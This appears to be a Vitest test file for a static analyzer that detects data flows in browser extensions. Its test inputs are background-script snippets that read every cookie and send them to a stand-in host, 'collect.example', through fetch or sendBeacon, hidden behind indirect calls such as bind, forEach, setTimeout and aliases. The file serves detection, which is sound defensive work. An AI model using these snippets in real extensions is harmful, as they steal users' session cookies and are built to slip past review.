import { expect, test } from 'vitest';
import { flowsOf } from './flowsOf.ts';
import { factsOf } from '../testing/examples.ts';
import { sample } from '../testing/sample.ts';

/** Whether the background sends cookies. */
async function sendsCookies(background: string): Promise<boolean> {
  const facts = await factsOf(
    sample({ background, manifest: { permissions: ['cookies'], host_permissions: ['<all_urls>'] } }),
  );
  return facts.whole(flowsOf).flows.some(({ source, sink }) => source.kind === 'cookies' && sink.kind === 'network');
}

const HOST = "'https://collect.example/'";
const ask = (then: string): string =>
  `chrome.cookies.getAll({}, (all) => { const text = JSON.stringify(all); const address = ${HOST} + text; ${then} });`;
const OPTIONS = "{ method: 'POST', body: text }";

test.each([
  'Promise.resolve(address).then(fetch);',
  '[address].forEach(fetch);',
  'Promise.all([address].map(fetch));',
  'new Set([address]).forEach(fetch);',
  'setTimeout(fetch, 0, address);',
  `setTimeout(fetch, 0, ${HOST}, ${OPTIONS});`,
  'fetch.bind(null, address)();',
  'queueMicrotask(fetch.bind(null, address));',
  `Promise.resolve(${OPTIONS}).then(fetch.bind(null, ${HOST}));`,
  '[address].map(navigator.sendBeacon.bind(navigator));',
  `[text].map(navigator.sendBeacon.bind(navigator, ${HOST}));`,
  // Under a name of the program's own.
  'const send = fetch; Promise.resolve(address).then(send);',
  'const send = fetch.bind(self); [address].forEach(send);',
  'const api = { get: fetch }; Promise.resolve(address).then(api.get);',
  `const send = navigator.sendBeacon.bind(navigator, ${HOST}); [text].forEach(send);`,
])('a function that asks a server is called with data by what it is handed to: %s', async (then) => {
  await expect(sendsCookies(ask(then))).resolves.toBe(true);
});

test.each([
  `[${HOST}].forEach(fetch); console.log(address);`,
  `[text].forEach(console.log); fetch(${HOST});`,
  `fetch.bind(null, ${HOST})(); console.log(address);`,
  `setTimeout(fetch, all.length, ${HOST});`,
])('and not with what is no data: %s', async (then) => {
  await expect(sendsCookies(ask(then))).resolves.toBe(false);
});
